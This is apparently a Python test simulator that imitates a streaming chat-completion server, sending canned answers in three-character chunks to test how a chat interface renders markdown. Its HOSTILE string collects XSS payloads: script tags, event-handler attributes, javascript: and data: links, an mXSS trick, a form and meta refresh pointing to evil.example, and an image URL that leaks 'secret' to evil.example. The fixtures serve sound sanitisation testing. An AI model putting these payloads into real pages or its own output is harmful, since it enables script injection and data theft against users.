"""An upstream that says what a test wants a model to have said, in pieces of three characters."""

from __future__ import annotations

import dataclasses
from collections.abc import Mapping, Sequence
from typing import Any, Final

from tests.simulators import Simulator
from tests.simulators.counting import COUNTING

PIECE: Final = 3  # characters of a chunk: tags, links and fences arrive broken

MARKDOWN: Final = """\
## A *short* answer

Some **bold** words, `inline code`, and [a link](https://example.org/page).

- first
- second, with a longer sentence that has to be broken somewhere on a narrow screen
  1. inner

| language | year |
|:---------|-----:|
| Python   | 1991 |
| Rust     | 2015 |

```python
def greet(name: str) -> str:
    return f"Hello, {name}!"  # a comment that is long enough to need scrolling on a phone
```

> A quotation at the end.
"""

HOSTILE: Final = """\
<script>window.hit = 'script'</script>

<img src="https://evil.example/a.png" onerror="window.hit = 'onerror'">

Inline <b onmouseover="window.hit = 'over'">bold</b> <svg onload="window.hit = 'svg'"></svg>

![secret](https://evil.example/steal?q=secret) ![data](data:image/svg+xml;base64,PHN2Zy8+)

[one](javascript:window.hit='link') [two](JaVaScRiPt&colon;window.hit='entity')
[three](data:text/html,<script>window.hit='data'</script>) <javascript:window.hit='auto'>
[four](vbscript:x) [five](https://ok.example/ "x" onclick=window.hit='title')

<form action="https://evil.example/post"><input name="q"><button>Go</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>
<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/s.css">
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">

```html"><img src=x onerror="window.hit='fence'">
</code></pre><script>window.hit='code'</script>
```

<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror=window.hit='mxss'&gt;">

| a |
|---|
| <img src=x onerror="window.hit='cell'"> |

[ref]: javascript:window.hit='ref'
[ref] <a href="/logout" id="sentinel" name="body">clobber</a>

The end of it.
"""

SAID: Final[Mapping[str, Mapping[str, Any]]] = {
    "markdown": {"content": MARKDOWN},
    "hostile": {"content": HOSTILE, "reasoning_content": HOSTILE},
    "reasoning": {
        "content": "Twelve.",
        "reasoning_content": "How many months has a year?\n\n- January\n- and so on",
    },
    "thinking": {"content": "<think>Hm, *let me see*.</think>\n\nForty-two."},
    "tools": {
        "content": None,
        "tool_calls": [
            {
                "id": "call_1",
                "type": "function",
                "function": {"name": "weather", "arguments": '{"city": "<b>Bern</b>", "days": 2}'},
            }
        ],
    },
    "long": {"content": "\n\n".join(f"Paragraph {n}. " + "words " * 40 for n in range(60))},
}


def _answer(request: Mapping[str, Any]) -> dict[str, Any]:
    asked = request["messages"][-1]["content"]
    said = SAID.get(asked, {"content": f"You said: {asked}"})
    return {"role": "assistant", **said}


def _complete(request: Mapping[str, Any], model: str) -> Any:
    message = _answer(request)
    text = message["content"] or ""
    return {
        "id": "talk",
        "object": "chat.completion",
        "created": 1_795_000_000,
        "model": model,
        "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
        "usage": {
            "prompt_tokens": 7,
            "completion_tokens": len(text) // PIECE,
            "total_tokens": 7 + len(text) // PIECE,
        },
    }


def _stream(document: Mapping[str, Any], include_usage: bool) -> Sequence[dict[str, Any]]:
    (choice,) = document["choices"]
    deltas: list[dict[str, Any]] = [{"role": "assistant"}]
    for name in ("reasoning_content", "content"):
        text = choice["message"].get(name) or ""
        deltas += [{name: text[at : at + PIECE]} for at in range(0, len(text), PIECE)]
    for index, call in enumerate(choice["message"].get("tool_calls", ())):
        deltas.append({"tool_calls": [{"index": index, **call}]})
    envelope = {"id": "talk", "object": "chat.completion.chunk", "created": 1_795_000_000}
    chunks = [
        {**envelope, "choices": [{"index": 0, "delta": delta, "finish_reason": None}]}
        for delta in deltas
    ]
    chunks.append({**envelope, "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
    if include_usage:
        chunks.append({**envelope, "choices": [], "usage": document["usage"]})
    return chunks


TALKER: Final = dataclasses.replace(COUNTING, name="talker", complete=_complete, stream=_stream)


def talker(*, every: float = 0.0) -> Simulator:
    """A model that answers the last message from `SAID`; `every` is seconds from chunk to chunk."""
    return Simulator(TALKER, models=("talker-1", "org/talker:large"), every=every)
